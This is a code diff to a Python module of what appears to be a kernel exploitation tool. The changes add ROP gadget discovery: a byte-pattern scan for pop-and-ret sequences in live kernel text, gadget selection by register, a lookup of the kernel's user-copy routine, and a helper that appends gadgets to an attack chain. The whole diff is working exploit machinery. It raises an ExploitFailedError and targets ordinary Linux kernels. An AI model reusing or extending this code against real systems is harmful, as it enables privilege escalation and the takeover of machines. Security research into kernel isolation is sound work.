@@ -12,16 +12,17 @@ Rules of this file:
 import re
 import struct
 from collections.abc import Callable, Iterable, Iterator
+from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
-from thinbox.address import U64, page_start
+from thinbox.address import PAGE_BYTES, U64, page_start
 from thinbox.errors import ThinboxError
 
 if TYPE_CHECKING:
     from thinbox.image.symbols import SymbolTable
 
 RETURN = b"\xc3"
-POP_RDI, POP_RSI, POP_RDX, POP_RSP = b"\x5f\xc3", b"\x5e\xc3", b"\x5a\xc3", b"\x5c\xc3"
+POP_RDI, POP_RSI, POP_RSP = b"\x5f\xc3", b"\x5e\xc3", b"\x5c\xc3"
 POP_RDI_RBP, POP_RSI_RDI = b"\x5f\x5d\xc3", b"\x5e\x5f\xc3"
 STORE_RSI_AT_RDI = b"\x48\x89\x37\xc3"
 XCHG_EAX_ESP = b"\x94\xc3"
@@ -30,6 +31,8 @@ REGISTERS = ("rax", "rcx", "rdx", "rbx", "rsp", "rbp", "rsi", "rdi", *(f"r{numbe
 """By encoding (SDM vol. 2, 3.1.1.1)."""
 _THUNK = re.compile(r"__x86_indirect_thunk_(r\w+)")
 _LOAD = re.compile(r"(r\w+), qword ptr \[(r\w+)(?: \+ (0x[0-9a-f]+|\d+))?\]")
+_POPS = re.compile(rb"(?:\x41?[\x58-\x5f]){1,6}\xc3")
+_RSP, _REX_B = 4, 0x41
 _LONGEST_LOOK_BACK = 20
 
 
@@ -48,6 +51,24 @@ def move_to(register: int, value: int) -> bytes:
     return bytes([0x48 if register < 8 else 0x49, 0xB8 + (register & 7)]) + (value & U64).to_bytes(8, "little")
 
 
+@dataclass(frozen=True, slots=True)
+class Loader:
+    """A gadget that pops registers (encodings), in that order, and returns."""
+
+    vaddr: int
+    registers: tuple[int, ...]
+
+    @property
+    def size_bytes(self) -> int:
+        """How long its code is, `ret` included."""
+        return sum(1 if number < 8 else 2 for number in self.registers) + len(RETURN)
+
+    @property
+    def name(self) -> str:
+        """What it does, as a record names it."""
+        return "".join(f"pop {REGISTERS[number]}; " for number in self.registers) + "ret"
+
+
 class LiveText:
     """The kernel's own text, as it stands in memory."""
 
@@ -57,6 +78,7 @@ class LiveText:
         self.code, self.start, self.symbols = code, int(symbols.text_start), symbols
         self._pages: dict[tuple[str, ...], frozenset[int]] = {}
         self._functions: dict[str, int] = {}
+        self._loaders: list[Loader] = []
         self._decoder = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
         self._entry_text = page_start(self.data("__entry_text_start")), self.data("__irqentry_text_end")
         self._thunks = {
@@ -91,6 +113,14 @@ class LiveText:
         at = vaddr - self.start
         return list(self._decoder.disasm_lite(self.code[at : at + size], vaddr))
 
+    @property
+    def copy_routine(self) -> int:
+        """The routine that copies to and from users, as `_copy_to_user` calls it (alternatives patch the call)."""
+        for _vaddr, _size, mnemonic, operands in self.decode(self.function("_copy_to_user")):
+            if mnemonic == "call" and operands.startswith("0x"):
+                return int(operands, 16)
+        return self.function("copy_user_generic_unrolled")
+
     def saved_by(self, function: str) -> tuple[int, ...]:
         """Return the registers (encodings) that a function saves where it begins, in the order in which it pops
         them."""
@@ -115,6 +145,35 @@ class LiveText:
             if self.is_inside(vaddr) and (wanted is None or wanted(vaddr)):
                 return vaddr
         raise ExploitFailedError(f"this kernel's text has no gadget {code.hex(' ')} as it is needed")
+
+    def loader(self, register: str, wanted: Callable[[int], bool] | None = None) -> Loader:
+        """Return the gadget that pops `register`, and as few others as can be, and that `wanted` accepts; the stack
+        pointer is popped first, or not at all."""
+        for found in self.loaders(register):
+            if self.is_inside(found.vaddr) and (wanted is None or wanted(found.vaddr)):
+                return found
+        raise ExploitFailedError(f"this kernel's text has no gadget that pops {register}, as it is needed")
+
+    def loaders(self, register: str) -> Iterator[Loader]:
+        """Yield the gadgets that pop `register`, anywhere: those that pop fewest first, then by address."""
+        number = REGISTERS.index(register)
+        for found in self._all_loaders():
+            if number in found.registers and _RSP not in found.registers[number == _RSP :]:
+                yield found
+
+    def _all_loaders(self) -> list[Loader]:
+        """Every gadget that only pops and returns: the shortest first, then by address."""
+        if not self._loaders:
+            for match in _POPS.finditer(self.code):
+                for at in range(len(match[0]) - 1):
+                    registers, high = [], 0
+                    for byte in match[0][at:-1]:
+                        high, last = (8, 0) if byte == _REX_B else (0, high)
+                        if byte != _REX_B:
+                            registers.append((byte & 7) + last)
+                    self._loaders.append(Loader(self.start + match.start() + at, tuple(registers)))
+            self._loaders.sort(key=lambda found: (len(found.registers), found.vaddr))
+        return self._loaders
 
     def is_inside(self, vaddr: int) -> bool:
         """Whether this is the middle of a function, outside the entry text (which every SCI page table maps, so that
@@ -181,14 +240,18 @@ class LiveText:
         return found
 
     # -- whole functions ------------------------------------------------------------------------------
-    def harmless_functions(self, page: int) -> Iterator[int]:
-        """Yield functions that start in `page`, compute in registers only and return: whoever calls them with
-        whatever arguments comes back."""
+    def functions_in(self, page: int) -> list[int]:
+        """Return where functions start in `page`, ascending."""
         from bisect import bisect_left
 
         starts = self.symbols.text_starts
-        for index in range(bisect_left(starts, page), bisect_left(starts, page + 4096)):
-            vaddr = starts[index]
+        found = starts[bisect_left(starts, page) : bisect_left(starts, page + PAGE_BYTES)]
+        return list(dict.fromkeys(int(vaddr) for vaddr in found))
+
+    def harmless_functions(self, page: int) -> Iterator[int]:
+        """Yield functions that start in `page`, compute in registers only and return: whoever calls them with
+        whatever arguments comes back."""
+        for vaddr in self.functions_in(page):
             for _at, _size, mnemonic, operands in self.decode(vaddr, 48):
                 if mnemonic == "ret":
                     yield vaddr
@@ -215,6 +278,10 @@ class Chain:
         self.names.setdefault(vaddr, name)
         self.words += [vaddr, *operands]
         return self
+
+    def load(self, loader: Loader, values: dict[str, int]) -> "Chain":
+        """Append a gadget that pops, and what it pops: of each register its value, zero for one that has none."""
+        return self.add(loader.name, loader.vaddr, *(values.get(REGISTERS[one], 0) for one in loader.registers))
 
     @property
     def data(self) -> bytes:
